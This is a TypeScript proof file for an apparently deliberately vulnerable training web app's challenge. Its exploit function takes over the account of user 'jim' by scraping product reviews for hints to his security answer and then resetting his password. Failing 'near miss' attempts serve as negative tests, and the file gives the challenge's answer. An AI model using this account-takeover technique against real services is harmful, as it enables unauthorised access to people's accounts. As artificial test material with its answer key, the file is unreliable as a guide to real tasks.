import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { resetPassword } from '../../weaknesses/answer-opens-account/reset-password.ts'
import { challenge } from './challenge.ts'

const jimOf = ({ domain }: Attacker) => `jim@${domain}`

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const email = jimOf(attacker)
    await attacker.get(`/rest/user/security-question?email=${email}`)
    // His review gives two initials of the name. Another customer's review contains the full name.
    const hint = (await attacker.get('/rest/products/21/reviews')).json().data
    const letters = /signs with a (\w)\. and an (\w)\./i.exec(JSON.stringify(hint))
    const crate = (await attacker.get('/rest/products/44/reviews')).json().data
    // linear-ok: an attempt begins at the start of a word and ends after the next one
    const names = new RegExp(`\\b${letters?.[1]}\\w+ (${letters?.[2]}\\w+)`).exec(JSON.stringify(crate))
    await resetPassword(attacker, email, names?.[1] ?? '')
  },
  nearMisses: {
    'a wrong answer': (attacker) => resetPassword(attacker, jimOf(attacker), 'Gerard'),
    'the answer in small letters': (attacker) => resetPassword(attacker, jimOf(attacker), 'samuel'),
    'the answer with a new password that is not repeated': (attacker) =>
      resetPassword(attacker, jimOf(attacker), 'Samuel', { repeat: 'something else' }),
    'the answer with two new passwords': (attacker) =>
      resetPassword(attacker, jimOf(attacker), 'Samuel', { new: 'riper', repeat: 'ripest' }),
    'the answer for somebody else': (attacker) => resetPassword(attacker, `bender@${attacker.domain}`, 'Samuel'),
    'an account of one’s own with the same answer': async (attacker) => {
      const { email } = await attacker.becomeCustomer()
      const { user } = (await attacker.get('/rest/user/whoami')).json()
      await attacker.post('/api/SecurityAnswers', { UserId: user.id, SecurityQuestionId: 1, answer: 'Samuel' })
      await resetPassword(attacker, email, 'Samuel')
    },
  },
})
